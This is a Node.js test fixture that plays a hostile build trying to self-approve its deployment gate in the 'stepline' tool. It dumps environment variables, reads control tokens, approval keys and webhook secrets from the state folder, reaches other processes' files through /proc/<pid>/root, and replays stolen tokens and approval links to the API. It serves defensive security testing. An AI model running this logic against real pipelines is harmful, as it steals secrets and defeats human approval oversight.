// A build that tries to approve its own approval gate, by every route a local build could take: the
// environment, the JSON API, the state folder's files (the control token, the keys, the outbox with its
// approve links), the state folder again through stepline's own process (/proc/<pid>/root), and the
// approval link pattern. Started detached by a pushed buildspec (as the reproduced attack was), it keeps
// trying until `<deploy dir>/attack-stop` appears (or 60 s pass), and writes what each attempt got to
// `<deploy dir>/attack-report.json` after every round. Used by self-approval.test.ts.
//
// Usage: node self-approval-build.mjs <server url> <state folder>
import { readdir, readFile, rename, stat, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';

const [baseUrl = '', stateDir = ''] = process.argv.slice(2);
const deployDir = process.env.STEPLINE_DEPLOY_DIR ?? process.cwd();
const reportPath = join(deployDir, 'attack-report.json');
const stopPath = join(deployDir, 'attack-stop');
const executionId = process.env.STEPLINE_EXECUTION_ID;

const report = {
  executionId,
  env: { ...process.env },
  rounds: 0,
  api: {},
  files: {},
  links: [],
  decisions: {},
  done: false,
};

/** Adds `value` to the distinct outcomes seen for `key`. */
function note(table, key, value) {
  const seen = table[key] ?? [];
  if (!seen.includes(value)) seen.push(value);
  table[key] = seen;
}

/** The folders the state folder may be: the one named, and every folder above the checkout. */
function stateCandidates() {
  const found = [stateDir];
  for (let dir = process.cwd(); dirname(dir) !== dir; dir = dirname(dir)) found.push(dirname(dir));
  return [...new Set(found.filter(Boolean))];
}

const tokens = new Set();
const links = new Set();

function collectLinks(text) {
  for (const match of text.matchAll(/https?:\/\/[^\s"'<>]+\/approvals\/[^\s"'<>]+/g)) links.add(match[0]);
}

async function tryRead(path) {
  try {
    const text = await readFile(path, 'utf8');
    note(report.files, path, 'read');
    return text;
  } catch (error) {
    note(report.files, path, error.code ?? 'error');
    return undefined;
  }
}

async function readStateFolder(dir) {
  for (const name of ['control-token', 'approval-key', 'webhook-secret-github']) {
    const text = await tryRead(join(dir, name));
    if (text) tokens.add(text.trim());
  }
  let outbox = [];
  try {
    outbox = await readdir(join(dir, 'outbox'));
    note(report.files, join(dir, 'outbox'), 'listed');
  } catch (error) {
    note(report.files, join(dir, 'outbox'), error.code ?? 'error');
  }
  for (const file of outbox) {
    const text = await tryRead(join(dir, 'outbox', file));
    if (text) collectLinks(text);
  }
}

/** The state folder as stepline's own processes see it: /proc/<pid>/root is their root, not ours. */
async function throughOtherProcesses() {
  const pids = (await readdir('/proc').catch(() => [])).filter((entry) => /^\d+$/.test(entry));
  let reached = 0;
  for (const pid of pids) {
    const root = `/proc/${pid}/root`;
    const seen = await stat(join(root, stateDir, 'control-token')).then(
      () => true,
      () => false,
    );
    if (!seen) continue;
    reached += 1;
    await readStateFolder(join(root, stateDir));
  }
  note(report.files, '/proc/*/root', reached === 0 ? 'none reachable' : `${reached} reachable`);
}

async function request(key, url, init = {}) {
  try {
    const response = await fetch(url, init);
    const text = await response.text();
    note(report.api, key, response.status);
    return { status: response.status, text };
  } catch (error) {
    note(report.api, key, `error: ${error.message}`);
    return undefined;
  }
}

async function round() {
  for (const value of Object.values(process.env)) if (value) collectLinks(value);
  for (const dir of stateCandidates()) await readStateFolder(dir);
  await throughOtherProcesses();

  const bearers = [undefined, ...tokens];
  for (const token of bearers) {
    const headers = token === undefined ? {} : { authorization: `Bearer ${token}` };
    const suffix = token === undefined ? '' : ' (with a token found)';
    for (const path of ['/api/approvals', '/api/runs', '/api/outbox']) {
      const answer = await request(`GET ${path}${suffix}`, `${baseUrl}${path}`, { headers });
      if (answer?.status === 200) collectLinks(answer.text);
    }
    await request(`POST /approvals/<forged>${suffix}`, `${baseUrl}/approvals/forged.link`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'name=build',
    });
    for (const link of links) {
      const answer = await request(`POST approve link${suffix}`, link, {
        method: 'POST',
        headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
        body: 'name=build&comment=self-approved',
      });
      if (answer) note(report.decisions, link, answer.status);
    }
  }
  report.links = [...links];
  report.rounds += 1;
}

async function save() {
  await writeFile(`${reportPath}.partial`, JSON.stringify(report, null, 2));
  await rename(`${reportPath}.partial`, reportPath);
}

const deadline = Date.now() + 60_000;
for (;;) {
  await round();
  const stop = await stat(stopPath).then(
    () => true,
    () => false,
  );
  if (stop || Date.now() > deadline) break;
  await save();
  await new Promise((resolve) => setTimeout(resolve, 100));
}
report.done = true;
await save();
